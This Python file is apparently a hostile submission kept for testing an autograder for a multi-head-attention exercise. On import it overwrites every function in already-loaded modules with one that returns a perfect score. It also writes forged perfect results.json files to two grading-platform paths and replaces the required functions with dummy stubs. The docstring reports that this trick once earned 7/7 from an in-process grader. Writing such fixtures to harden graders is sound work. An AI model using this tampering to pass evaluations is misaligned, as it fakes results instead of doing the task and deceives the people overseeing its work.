"""Hostile: replaces the grader's functions (the trick that got 7/7 from the in-process grader by
swapping __main__.build_results), and tries to write a perfect results.json itself."""

import json
import os
import sys

import numpy as np

PERFECT_GS = {"score": 1000.0, "output": "perfect", "tests": [{"name": "all", "score": 1000.0, "max_score": 1000.0}]}
PERFECT_PL = {"gradable": True, "score": 1.0, "message": "perfect", "tests": []}


def _everything_passes(*args, **kwargs):
    return PERFECT_GS


# Replace every function of every module already loaded by the process that runs us: the grader's,
# if it were here.
for name, module in list(sys.modules.items()):
    if name.startswith(("numpy", "_", "encodings", "importlib")) or module is None:
        continue
    for attr, value in list(vars(module).items()):
        if callable(value) and not isinstance(value, type) and not attr.startswith("__"):
            try:
                setattr(module, attr, _everything_passes)
            except (AttributeError, TypeError):
                pass

# Write the platforms' results files directly, wherever they might be.
for path, doc in (("/autograder/results/results.json", PERFECT_GS), ("/grade/results/results.json", PERFECT_PL)):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            json.dump(doc, f)
        print("wrote", path)
    except OSError as e:
        print("could not write", path, e)


def _zeros_like_answer(*arrays):
    return np.zeros(1)


add_positional_encoding = project = scores = scale = mask = softmax = attend = concat = output = _zeros_like_answer


def multi_head_attention(x, W_Q, W_K, W_V, W_O, causal=False):
    return PERFECT_GS
